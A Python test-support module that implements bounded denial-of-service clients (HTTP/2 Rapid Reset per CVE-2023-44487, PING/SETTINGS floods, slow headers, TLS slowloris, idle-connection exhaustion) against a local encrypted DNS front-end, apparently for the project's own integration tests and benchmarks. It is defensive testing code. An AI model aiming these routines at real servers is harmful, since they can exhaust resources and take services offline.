#!/usr/bin/python3
"""Abusive clients of the encrypted front-ends (issue 16 §6), for the
integration test (tests/integration/abusive_connections_test.py) and the
bench (bench/idle_connections.py). Every attack is bounded in count and time
and talks only to 127.0.0.0/8.

As a module:
  rapid_reset(port, cafile, streams)       HTTP/2 HEADERS then RST_STREAM, again and again
  control_flood(port, cafile, kind, n)     n HTTP/2 PING or SETTINGS frames
  slow_headers(port, cafile, interval)     an HTTP/1.1 request head, one octet per interval
  tls_slowloris(port, interval)            a ClientHello, one octet per interval
  idle_tls(port, cafile, n, sources)       n TLS connections that never ask anything
  over_cap(port, cafile, n, source)        n TLS connections from one address: how many survive
Each returns a small dict of what happened (closed, after how long, GOAWAY
error code...). As a script: `connection_attacks.py ATTACK PORT CAFILE` prints it.
"""
import socket
import ssl
import sys
import time

GOAWAY_ENHANCE_YOUR_CALM = 11


def tls_context(cafile, alpn):
    context = ssl.create_default_context(cafile=cafile)
    context.set_alpn_protocols(alpn)
    return context


def connect(port, source=None, timeout=5.0):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(timeout)
    if source:
        s.bind((source, 0))
    s.connect(("127.0.0.1", port))
    return s


def tls_connect(port, cafile, alpn, source=None, timeout=5.0):
    s = connect(port, source, timeout)
    try:
        return tls_context(cafile, alpn).wrap_socket(s, server_hostname="localhost")
    except Exception:
        s.close()
        raise


def closed_within(sock, seconds):
    """True once the peer closes (EOF, reset) within `seconds`; reads and
    discards anything else it sends."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        sock.settimeout(max(0.05, deadline - time.monotonic()))
        try:
            if not sock.recv(65536):
                return True
        except socket.timeout:
            return False
        except ssl.SSLWantReadError:
            continue
        except (ssl.SSLError, OSError):
            return True
    return False


def _h2_connection():
    import h2.config
    import h2.connection
    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
    c.initiate_connection()
    return c


def _h2_outcome(sock, c, seconds):
    """Reads until the server ends the connection: (goaway error or None, closed)."""
    import h2.events
    import h2.exceptions
    deadline = time.monotonic() + seconds
    goaway = None
    while time.monotonic() < deadline:
        sock.settimeout(max(0.05, deadline - time.monotonic()))
        try:
            data = sock.recv(65536)
        except socket.timeout:
            return goaway, False
        except (ssl.SSLError, OSError):
            return goaway, True
        if not data:
            return goaway, True
        try:
            for event in c.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    goaway = int(event.error_code)
        except h2.exceptions.ProtocolError:
            pass
    return goaway, False


def rapid_reset(port, cafile, streams=1000, path="/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB",
                source=None):
    """CVE-2023-44487: HEADERS (a complete GET) then RST_STREAM at once, for
    up to `streams` streams, without reading; then what the server did."""
    import h2.errors
    sock = tls_connect(port, cafile, ["h2"], source)
    c = _h2_connection()
    sent = 0
    started = time.monotonic()
    try:
        sock.sendall(c.data_to_send())
        stream_id = 1
        for _ in range(streams):
            c.send_headers(stream_id, [(":method", "GET"), (":scheme", "https"), (":authority", "localhost"),
                                       (":path", path)], end_stream=True)
            c.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
            sock.sendall(c.data_to_send())
            sent += 1
            stream_id += 2
        closed_early = False
    except (ssl.SSLError, OSError):
        closed_early = True  # the server hung up while we were still sending
    goaway, closed = _h2_outcome(sock, c, 5.0)
    sock.close()
    return {"streams_sent": sent, "goaway": goaway, "closed": closed or closed_early,
            "seconds": round(time.monotonic() - started, 3)}


def control_flood(port, cafile, kind="ping", frames=1000, source=None):
    """`frames` PING (or empty SETTINGS) frames in a row, then what the server did."""
    sock = tls_connect(port, cafile, ["h2"], source)
    c = _h2_connection()
    sent = 0
    started = time.monotonic()
    try:
        sock.sendall(c.data_to_send())
        for i in range(frames):
            if kind == "ping":
                c.ping(i.to_bytes(8, "big"))
            else:
                c.update_settings({})
            sent += 1
            if sent % 50 == 0:
                sock.sendall(c.data_to_send())
        sock.sendall(c.data_to_send())
        closed_early = False
    except (ssl.SSLError, OSError):
        closed_early = True
    goaway, closed = _h2_outcome(sock, c, 5.0)
    sock.close()
    return {"frames_sent": sent, "goaway": goaway, "closed": closed or closed_early,
            "seconds": round(time.monotonic() - started, 3)}


def slow_headers(port, cafile, interval=0.2, limit_s=8.0, source=None):
    """An HTTP/1.1 request head sent one octet per `interval`: seconds until
    the server closes (None if it did not within `limit_s`)."""
    sock = tls_connect(port, cafile, ["http/1.1"], source)
    head = (b"GET /dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB HTTP/1.1\r\n"
            b"Host: localhost\r\nUser-Agent: slow" + b"w" * 200)
    started = time.monotonic()
    try:
        for i in range(len(head)):
            if time.monotonic() - started > limit_s:
                break
            sock.sendall(head[i:i + 1])
            if closed_within(sock, interval):
                return {"closed_after": round(time.monotonic() - started, 3), "octets": i + 1}
    except (ssl.SSLError, OSError):
        return {"closed_after": round(time.monotonic() - started, 3), "octets": None}
    finally:
        sock.close()
    return {"closed_after": None}


def client_hello():
    """A real TLS ClientHello's octets (from an in-memory handshake)."""
    incoming = ssl.MemoryBIO()
    outgoing = ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    obj = context.wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def tls_slowloris(port, interval=0.2, limit_s=8.0, source=None):
    """A ClientHello one octet per `interval`: seconds until the server
    closes (None if it did not within `limit_s`)."""
    hello = client_hello()
    sock = connect(port, source)
    started = time.monotonic()
    try:
        for i in range(len(hello)):
            if time.monotonic() - started > limit_s:
                break
            sock.sendall(hello[i:i + 1])
            if closed_within(sock, interval):
                return {"closed_after": round(time.monotonic() - started, 3), "octets": i + 1}
    except OSError:
        return {"closed_after": round(time.monotonic() - started, 3), "octets": None}
    finally:
        sock.close()
    return {"closed_after": None}


def idle_tls(port, cafile, count, sources, alpn=("dot",), deadline_s=60.0):
    """Opens up to `count` TLS connections (spread over `sources`, round
    robin) that never send a query; returns (sockets, failures). The caller
    closes the sockets."""
    sockets = []
    failures = 0
    context = tls_context(cafile, list(alpn))
    started = time.monotonic()
    for i in range(count):
        if time.monotonic() - started > deadline_s:
            break
        try:
            s = connect(port, sources[i % len(sources)])
            sockets.append(context.wrap_socket(s, server_hostname="localhost"))
        except (ssl.SSLError, OSError):
            failures += 1
    return sockets, failures


def still_open(sockets):
    """How many of `sockets` the server has not closed (non-blocking peek)."""
    alive = 0
    for s in sockets:
        try:
            s.setblocking(False)
            data = s.recv(1)
            if data:
                alive += 1  # unexpected data, but open
        except ssl.SSLWantReadError:
            alive += 1
        except BlockingIOError:
            alive += 1
        except (ssl.SSLError, OSError):
            pass
    return alive


def over_cap(port, cafile, count, source, alpn=("dot",)):
    """`count` TLS connections from `source`: how many handshakes succeed and
    stay open half a second later."""
    sockets, failures = idle_tls(port, cafile, count, [source], alpn)
    time.sleep(0.5)
    alive = still_open(sockets)
    for s in sockets:
        s.close()
    return {"attempted": count, "handshakes": len(sockets), "failed": failures, "alive": alive}


def main(argv):
    if len(argv) < 4:
        print(__doc__)
        return 2
    attack, port, cafile = argv[1], int(argv[2]), argv[3]
    if attack == "rapid-reset":
        print(rapid_reset(port, cafile))
    elif attack in ("ping", "settings"):
        print(control_flood(port, cafile, attack))
    elif attack == "slow-headers":
        print(slow_headers(port, cafile))
    elif attack == "slowloris":
        print(tls_slowloris(port))
    else:
        print("unknown attack %s" % attack)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
